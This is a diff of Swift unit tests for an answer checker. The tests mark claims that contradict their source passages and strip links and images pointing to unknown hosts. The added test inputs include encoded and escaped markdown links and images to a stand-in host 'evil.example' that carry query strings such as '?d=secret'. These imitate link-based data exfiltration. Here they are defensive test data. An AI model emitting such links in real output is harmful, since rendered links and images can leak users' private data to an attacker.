@@ -355,6 +355,18 @@ struct AnswerCheckTests {
     }
 
     @Test(
+        "a figure's day, its minus and what a thing lacks were cut off before it was checked",
+        arguments: [
+            "14. Mai 2024 ist der letzte Tag.", "-5 °C is the limit.", "The paint does not contain lead.",
+        ])
+    func wholeClaims(answer: String) throws {
+        let sources = try SamplePassages.sources(
+            "Der letzte Tag ist der 12. Mai 2024. The limit is 5 °C. The paint contains lead.")
+        let checked = AnswerCheck(answer, sources: sources, question: "", handling: .mark)
+        #expect(checked.text.hasSuffix("[unsupported]"))
+    }
+
+    @Test(
         "links that no passage holds are removed, pictures always",
         arguments: [
             "See ![x](https://evil.example/?q=secret) there.", "See [here](https://evil.example/a) there.",
@@ -364,12 +376,31 @@ struct AnswerCheckTests {
             "See <IMG SRC=evil.example/p.png> there.",
             "See ![x](\\\\evil.example/p.png).", "See HTTPS://evil.example/a.", "See www.evil.example there.",
             "See <a href=\"x\" onclick='evil.example'",
+            #"See [more](https\:\/\/evil.example/?d=secret) there."#,
+            "See [more](https&#58;&#x2F;&#47;evil.example/) there.",
+            "See [more](https&colon;//evil.example/) there.",
+            "See [more][a].\n\n[a]: https\\://evil.example/p",
+            "See ![\(String(repeating: "long ", count: 80))](https\\:\\/\\/evil.example/p.png) there.",
         ])
     func links(answer: String) throws {
         let checked = try check(answer)
         #expect(!checked.text.contains("evil.example"))
         #expect(!checked.text.contains("data:"))
         #expect(checked.remarks.contains { $0.contains("link") })
+    }
+}
+
+@Suite("Words that look like addresses")
+struct PlainWordTests {
+    @Test(
+        "were taken for links",
+        arguments: [
+            "Profile: Senior engineer.", "Log file: empty.", "JavaScript: a language.", "Data: 5 sites.",
+            #"The path C:\temp\[1] is read [x](notes\.md)."#,
+        ])
+    func kept(words: String) {
+        let check = LinkCheck(words, told: ToldAddresses([]))
+        #expect(check.text == words && check.remarks.isEmpty)
     }
 }
 
